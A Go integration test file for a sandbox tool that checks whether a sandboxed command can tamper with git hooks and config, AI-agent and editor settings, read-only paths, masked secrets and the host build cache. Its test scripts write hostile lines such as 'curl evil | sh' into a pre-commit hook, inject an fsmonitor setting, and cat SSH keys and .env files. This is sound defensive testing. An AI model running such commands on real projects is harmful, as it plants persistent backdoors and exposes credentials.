// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 The Warden Authors

//go:build integration && linux

package sandbox

// Attack tests for the planned view: protected project paths, extra
// writable and read-only paths, hide patterns and sensitive files found in
// the project, full-access mode and the run cache. Same assumptions as
// attack_integration_test.go; they are rerun as uid 65534 with the others.

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// writeFiles writes each name=body under root, world-readable.
func writeFiles(t *testing.T, root string, files map[string]string) {
	t.Helper()
	for name, body := range files {
		p := filepath.Join(root, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o777); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o666); err != nil {
			t.Fatal(err)
		}
		os.Chmod(p, 0o666)
	}
}

// openProject makes a project directory the sandbox's uid may write.
func openProject(t *testing.T) string {
	t.Helper()
	p := t.TempDir()
	os.Chmod(p, 0o777)
	return p
}

func TestAttackProtectedPaths(t *testing.T) {
	project := openProject(t)
	orig := map[string]string{
		".git/config":           "[core]\n\trepositoryformatversion = 0\n",
		".git/hooks/pre-commit": "#!/bin/sh\nexit 0\n",
		".claude/settings.json": `{"hooks":{"PreToolUse":[{"matcher":"*","hooks":[{"type":"command","command":"warden hook claude-code"}]}]}}`,
		".vscode/tasks.json":    `{"tasks":[]}`,
		".mcp.json":             `{"mcpServers":{}}`,
	}
	writeFiles(t, project, orig)
	for _, d := range []string{".git", ".git/hooks", ".claude", ".vscode"} {
		os.Chmod(filepath.Join(project, d), 0o777)
	}
	// Every way to replace what the host's git, agent CLI or editor
	// will run later: overwrite, append, delete, rename the file or its
	// directory (and put a new one in its place), replace it by rename.
	script := `
echo 'curl evil | sh' > .git/hooks/pre-commit
echo '[core] fsmonitor = evil' >> .git/config
echo '{}' > .claude/settings.json
rm -rf .git/hooks .claude .vscode .mcp.json
mv .git .git-aside && mkdir -p .git/hooks && echo evil > .git/hooks/post-checkout
mv .git/hooks .git/hooks-aside
mv .claude .claude-aside; mkdir .claude; echo '{}' > .claude/settings.json
echo '{}' > new.json && mv new.json .mcp.json
ln -sf /dev/null .git/config
echo made > ordinary
`
	o := run(t, Spec{Project: project, Mode: WorkspaceWrite, Argv: sh(script)})
	if o.err != nil {
		t.Fatal(o.err)
	}
	for name, body := range orig {
		if b, err := os.ReadFile(filepath.Join(project, name)); err != nil || string(b) != body {
			t.Errorf("%s changed on the host: %q, %v", name, b, err)
		}
	}
	for _, gone := range []string{".git-aside", ".git/hooks-aside", ".claude-aside", ".git/hooks/post-checkout"} {
		if _, err := os.Lstat(filepath.Join(project, gone)); err == nil {
			t.Errorf("%s exists on the host", gone)
		}
	}
	// Control: the rest of the project is writable.
	if b, err := os.ReadFile(filepath.Join(project, "ordinary")); err != nil || string(b) != "made\n" {
		t.Errorf("control: an ordinary file was not written: %q, %v", b, err)
	}
	// Named exactly in ReadWrite, a protected path is writable.
	o = run(t, Spec{Project: project, Mode: WorkspaceWrite, ReadWrite: []string{filepath.Join(project, ".git/hooks")},
		Argv: sh("echo lifted > .git/hooks/pre-commit; echo x >> .git/config")})
	if o.err != nil {
		t.Fatal(o.err)
	}
	if b, _ := os.ReadFile(filepath.Join(project, ".git/hooks/pre-commit")); string(b) != "lifted\n" {
		t.Errorf("read_write did not lift the protection of .git/hooks: %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(project, ".git/config")); string(b) != orig[".git/config"] {
		t.Errorf("lifting .git/hooks made .git/config writable: %q", b)
	}
}

func TestAttackReadOnlyAndReadWritePaths(t *testing.T) {
	project := openProject(t)
	writeFiles(t, project, map[string]string{"vendor/lib.go": "package lib\n"})
	os.Chmod(filepath.Join(project, "vendor"), 0o777)
	extra := varTempDir(t)
	os.Chmod(extra, 0o777)
	o := run(t, Spec{Project: project, Mode: WorkspaceWrite,
		ReadOnly:  []string{filepath.Join(project, "vendor")},
		ReadWrite: []string{extra},
		Argv:      sh("echo evil > vendor/lib.go; touch vendor/new; echo out > " + extra + "/made")})
	if o.err != nil {
		t.Fatal(o.err)
	}
	if b, _ := os.ReadFile(filepath.Join(project, "vendor/lib.go")); string(b) != "package lib\n" {
		t.Errorf("a read_only path inside the project changed: %q", b)
	}
	if _, err := os.Stat(filepath.Join(project, "vendor/new")); err == nil {
		t.Error("a file was created in a read_only path")
	}
	if b, err := os.ReadFile(filepath.Join(extra, "made")); err != nil || string(b) != "out\n" {
		t.Errorf("a read_write path outside the project was not writable: %q, %v", b, err)
	}
}

func TestAttackSecretsInProject(t *testing.T) {
	project := openProject(t)
	elsewhere := varTempDir(t)
	const secret = "warden-test-secret"
	writeFiles(t, project, map[string]string{
		".env":                   secret + " dotenv",
		"services/api/.env.prod": secret + " dotenv prod",
		"deploy/id_ed25519":      secret + " key",
		"certs/server.pem":       secret + " pem",
		"config/secrets/db.yaml": secret + " hidden dir",
		".env.example":           "visible-control",
		"deploy/id_ed25519.pub":  "visible-public-key",
	})
	writeFiles(t, elsewhere, map[string]string{"id_rsa_ci": secret + " linked key"})
	if err := os.Symlink(filepath.Join(elsewhere, "id_rsa_ci"), filepath.Join(project, "ci.key")); err != nil {
		t.Fatal(err)
	}
	o := run(t, Spec{Project: project, Hide: []string{"*.pem", "secrets/"}, Argv: sh(
		"cat .env services/api/.env.prod deploy/id_ed25519 certs/server.pem config/secrets/db.yaml ci.key " +
			elsewhere + "/id_rsa_ci; cat .env.example deploy/id_ed25519.pub; grep -r warden-test . ")})
	if o.err != nil {
		t.Fatal(o.err)
	}
	if strings.Contains(o.stdout+o.stderr, secret) {
		t.Errorf("a secret of the project came out:\n%s", o.stdout)
	}
	for _, want := range []string{"visible-control", "visible-public-key"} {
		if !strings.Contains(o.stdout, want) {
			t.Errorf("control: %s was not readable, so the test proves nothing", want)
		}
	}
	// The masks left nothing behind on the host.
	if b, _ := os.ReadFile(filepath.Join(project, ".env")); string(b) != secret+" dotenv" {
		t.Errorf("the host's .env changed: %q", b)
	}
}

func TestAttackFullAccessKeepsMasks(t *testing.T) {
	outside := varTempDir(t)
	os.Chmod(outside, 0o777)
	home := varTempDir(t)
	writeFiles(t, home, map[string]string{".ssh/id_rsa": "warden-test-secret"})
	project := openProject(t)
	o := run(t, Spec{Project: project, Home: home, Mode: FullAccess, Argv: sh(
		"echo full > " + outside + "/made; cat ~/.ssh/id_rsa; echo x > ~/.ssh/id_rsa")})
	if o.err != nil {
		t.Fatal(o.err)
	}
	// full-access lifts the filesystem ceiling...
	if b, err := os.ReadFile(filepath.Join(outside, "made")); err != nil || string(b) != "full\n" {
		t.Errorf("full-access: a write outside the project did not land: %q, %v", b, err)
	}
	// ...but never the credentials boundary.
	if strings.Contains(o.stdout, "warden-test-secret") {
		t.Error("full-access exposed a masked key")
	}
	if b, _ := os.ReadFile(filepath.Join(home, ".ssh/id_rsa")); string(b) != "warden-test-secret" {
		t.Errorf("full-access let the command change a masked key: %q", b)
	}
}

func TestAttackRunCacheIsolated(t *testing.T) {
	home := varTempDir(t)
	writeFiles(t, home, map[string]string{".cache/go-build/trusted": "host cache entry"})
	cache := filepath.Join(varTempDir(t), "run-cache")
	project := openProject(t)
	o := run(t, Spec{Project: project, Home: home, Cache: cache, Argv: sh(
		`echo poisoned > ~/.cache/go-build/trusted; mkdir -p "$XDG_CACHE_HOME/go-build" && echo entry > "$XDG_CACHE_HOME/go-build/e" && echo $XDG_CACHE_HOME`)})
	if o.err != nil {
		t.Fatal(o.err)
	}
	if b, _ := os.ReadFile(filepath.Join(home, ".cache/go-build/trusted")); string(b) != "host cache entry" {
		t.Errorf("the caller's own build cache changed: %q", b)
	}
	if b, err := os.ReadFile(filepath.Join(cache, "go-build/e")); err != nil || string(b) != "entry\n" {
		t.Errorf("the run cache was not writable: %q, %v", b, err)
	}
}
